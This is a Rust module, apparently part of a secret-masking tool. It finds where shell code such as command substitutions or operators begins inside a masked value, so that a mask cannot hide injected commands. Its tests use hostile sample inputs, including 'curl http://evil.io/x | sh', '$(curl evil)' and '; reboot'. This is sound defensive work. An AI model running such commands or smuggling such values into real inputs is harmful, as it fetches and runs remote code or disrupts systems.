//! A value → where in it a shell could find code. A mask must not hide that from a reviewer, whatever stands before it.

use std::ops::Range;

/// What begins a command within a value.
const SUBSTITUTIONS: [&str; 3] = ["`", "$(", "${"];

/// Signs that shells and programs read as code.
const SIGNS: &str = ";&|<>(){}`";

/// Returns whether a secret could be written to hide code where it is masked elsewhere: all but a single word without such signs.
pub(crate) fn could_be_code(secret: &str) -> bool {
    let is_sign = |c: char| c.is_whitespace() || SIGNS.contains(c);
    secret.starts_with('-') || secret.contains("://") || secret.trim().contains(is_sign)
}

/// Looks for code in the values of a text, which are asked for in their order: the text is gone through once.
#[derive(Default)]
pub(super) struct Code {
    operator: Next,
    space: Next,
    substitutions: [Next; SUBSTITUTIONS.len()],
}

impl Code {
    /// The range without the code at its end. An operator without a space or a quote beside it may be part of a password.
    pub(super) fn without(&mut self, text: &str, value: Range<usize>) -> Range<usize> {
        let Range { start, mut end } = value;
        for (next, sign) in self.substitutions.iter_mut().zip(SUBSTITUTIONS) {
            end = end.min(next.from(text, start, |rest| rest.find(sign)));
        }
        let operator = self.operator.from(text, start, |rest| rest.find(is_operator));
        let space = self.space.from(text, start, |rest| rest.find(is_space));
        if operator < end && space < end { start..operator.min(space) } else { start..end }
    }
}

/// The next place of something in a text.
#[derive(Default)]
struct Next {
    at: Option<usize>,
}

impl Next {
    fn from(&mut self, text: &str, start: usize, find: impl Fn(&str) -> Option<usize>) -> usize {
        let known = self.at.filter(|at| *at >= start);
        let at = known.unwrap_or_else(|| find(&text[start..]).map_or(text.len(), |at| start + at));
        self.at = Some(at);
        at
    }
}

fn is_operator(c: char) -> bool {
    matches!(c, ';' | '|' | '&' | '<' | '>' | '\n' | '\r')
}

fn is_space(c: char) -> bool {
    c.is_whitespace() || matches!(c, '"' | '\'')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_value_ends_where_code_begins() {
        for (value, shown) in [
            ("hunter2", "hunter2"),
            ("hunter2 x", "hunter2 x"),
            ("p;w|0&rd", "p;w|0&rd"),
            ("a; curl http://evil.io/x | sh; b", "a"),
            ("one curl evil | sh", "one"),
            ("x$(curl evil)", "x"),
            ("x`y`", "x"),
            ("';reboot;'", ""),
            ("a\nreboot", "a"),
        ] {
            assert_eq!(&value[Code::default().without(value, 0..value.len())], shown, "{value}");
        }
    }

    #[test]
    fn what_could_be_code_is_more_than_a_word() {
        for plain in ["hunter2", "tk-0001", "p@ss/word=", "pa$$w0rd", "100%"] {
            assert!(!could_be_code(plain), "{plain}");
        }
        for code in
            ["--privileged", "exec evil server", "http://evil.io", "&&evil;reboot", "$(x)", "os.system(x)"]
        {
            assert!(could_be_code(code), "{code}");
        }
    }
}
